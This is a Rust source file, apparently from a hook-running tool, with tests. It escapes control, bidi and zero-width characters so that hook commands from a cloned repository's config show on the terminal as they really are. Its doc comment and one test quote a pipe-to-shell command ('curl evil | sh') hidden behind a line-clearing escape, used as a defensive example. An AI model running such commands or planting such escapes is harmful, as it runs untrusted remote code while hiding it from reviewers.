//! Text from a config file (a command, a description, a path, a matcher) or from a hook shown
//! in human output: made safe for a terminal. A cloned repository's `hooks.json` can hold an
//! ANSI escape that clears the line, a carriage return that starts it over, or a right-to-left
//! override: printed raw, `curl evil | sh #\x1b[2K\r./scripts/lint.sh` shows a reviewer only
//! `./scripts/lint.sh`. JSON output stays exact (JSON escapes control characters itself).

use std::borrow::Cow;
use std::fmt::Write;

/// Whether `c` must not reach a terminal raw: C0 controls (newline and tab included: a
/// one-line field that breaks the line can fake the next one), DEL, C1 controls, the bidi
/// embeddings, overrides, isolates and marks, zero-width characters that hide a difference,
/// and the line and paragraph separators.
fn unsafe_char(c: char) -> bool {
    matches!(c,
        '\0'..='\u{1f}' | '\u{7f}'..='\u{9f}'
        | '\u{61c}'                    // Arabic letter mark
        | '\u{200b}'..='\u{200f}'      // zero-width space/non-joiner/joiner, LRM, RLM
        | '\u{2028}'..='\u{202e}'      // line/paragraph separators, bidi embeddings, overrides
        | '\u{2060}'..='\u{2064}'      // word joiner, invisible operators
        | '\u{2066}'..='\u{2069}'      // bidi isolates
        | '\u{feff}'                   // zero-width no-break space (BOM)
    )
}

/// `text` with every character that could move the cursor, rewrite the line, reorder what
/// follows or hide itself shown as an escape instead: `\n`, `\r`, `\t`, `\x1b` (other ASCII
/// controls alike), `\u{9b}` (C1), `\u{202e}` (bidi and invisible characters). Everything
/// else, backslashes included, is kept as it is, so a command reads as the shell gets it.
/// Borrowed (no copy) when nothing needs escaping.
pub fn terminal_safe(text: &str) -> Cow<'_, str> {
    if !text.chars().any(unsafe_char) {
        return Cow::Borrowed(text);
    }
    let mut out = String::with_capacity(text.len() + 16);
    for c in text.chars() {
        match c {
            '\n' => out.push_str("\\n"),
            '\r' => out.push_str("\\r"),
            '\t' => out.push_str("\\t"),
            c if (c as u32) < 0x80 && unsafe_char(c) => {
                let _ = write!(out, "\\x{:02x}", c as u32);
            }
            c if unsafe_char(c) => {
                let _ = write!(out, "\\u{{{:x}}}", c as u32);
            }
            c => out.push(c),
        }
    }
    Cow::Owned(out)
}

/// [`terminal_safe`] for a message of several lines that hookhost wrote itself (an error
/// that quotes a config): each line made safe, the line breaks kept.
pub fn terminal_safe_lines(text: &str) -> Cow<'_, str> {
    if !text.chars().any(|c| c != '\n' && unsafe_char(c)) {
        return Cow::Borrowed(text);
    }
    Cow::Owned(
        text.split('\n')
            .map(terminal_safe)
            .collect::<Vec<_>>()
            .join("\n"),
    )
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn escapes_what_moves_the_cursor_or_reorders_text() {
        assert_eq!(
            terminal_safe("curl x | sh #\u{1b}[2K\r./lint.sh"),
            r"curl x | sh #\x1b[2K\r./lint.sh"
        );
        assert_eq!(terminal_safe("a\u{7}\u{8}\u{7f}\0"), r"a\x07\x08\x7f\x00");
        assert_eq!(terminal_safe("a\nb\tc"), r"a\nb\tc");
        assert_eq!(terminal_safe("\u{9b}31m"), r"\u{9b}31m");
        assert_eq!(terminal_safe("lint \u{202e}hs.x"), r"lint \u{202e}hs.x");
        assert_eq!(
            terminal_safe("\u{2066}a\u{2069}\u{200b}\u{feff}"),
            r"\u{2066}a\u{2069}\u{200b}\u{feff}"
        );
    }

    #[test]
    fn plain_text_is_borrowed_and_unchanged() {
        for s in [
            "",
            "grep -q 'a\\|b' && exit 2",
            "héllo wörld ✓ 日本",
            r"\x1b literal",
        ] {
            assert!(matches!(terminal_safe(s), Cow::Borrowed(t) if t == s));
        }
    }

    #[test]
    fn lines_keep_their_breaks() {
        assert_eq!(terminal_safe_lines("one\ntwo\u{1b}[8m"), "one\ntwo\\x1b[8m");
        assert!(matches!(terminal_safe_lines("a\nb"), Cow::Borrowed(_)));
    }
}
